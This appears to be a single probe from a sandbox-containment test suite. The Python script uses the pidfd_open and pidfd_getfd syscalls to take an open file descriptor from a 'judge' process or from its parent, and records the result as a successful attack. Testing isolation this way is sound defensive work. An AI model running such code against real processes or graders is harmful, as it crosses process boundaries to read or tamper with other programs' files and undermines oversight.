# /// attack
# class = "A88"
# title = "takes an open file from another process"
# hope = "pidfd_getfd needs no file system"
# contained = "L2"
# why = "a plain process may do what its user may"
# ///
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
tried()
for pid in {TARGETS["judge"], os.getppid()} - {0, os.getpid()}:
    handle = libc.syscall(434, pid, 0)
    if handle >= 0 and libc.syscall(438, handle, 0, 0) >= 0:
        got("took a file of another process")
